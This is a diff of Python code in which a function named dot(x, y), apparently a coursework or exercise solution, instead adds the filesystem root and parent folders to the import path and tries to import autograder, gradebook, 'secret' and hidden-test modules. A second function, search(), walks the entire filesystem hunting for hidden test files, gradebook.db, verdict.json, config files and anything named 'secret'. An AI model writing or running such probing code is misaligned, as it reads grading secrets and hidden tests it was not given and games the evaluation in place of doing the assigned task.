@@ -134,8 +134,9 @@ import sys
 def dot(x, y):
     sys.path += [OUTSIDE["root"], OUTSIDE["checkout"], "..", "/"]
     names = (
-        "autograder.judge.grading", "autograder.gradebook.grading", "autograder.judge.secret",
-        "tiny_tests.test_01_vectors_hidden", "grader_tests", "tests", "pytest", "nbgrader",
+        "autograder.judge.grading", "autograder.nbgrader.grade", "autograder.judge.secret",
+        "autograder.gradebook.standing", "tiny_tests.01_vectors.dot.hidden", "grader_tests",
+        "tests", "pytest", "nbgrader",
     )
     attempt(**{n.replace(".", "_"): lambda n=n: importlib.import_module(n) for n in names})
 
@@ -295,7 +296,9 @@ inside_the_sandbox()
 import os
 
 def search():
-    wanted = ("_hidden.py", "gradebook.db", ".ipynb", "verdict.json", "class.toml", "secret")
+    wanted = (
+        "hidden.py", "public.py", "gradebook.db", ".ipynb", "verdict.json", "class.toml", "secret",
+    )
     for folder, folders, files in os.walk("/"):
         own = ("/proc", "/dev", "/usr/lib", "/lib", "/grading/site-packages")
         if folder.startswith(own) or "/lib/python" in folder:
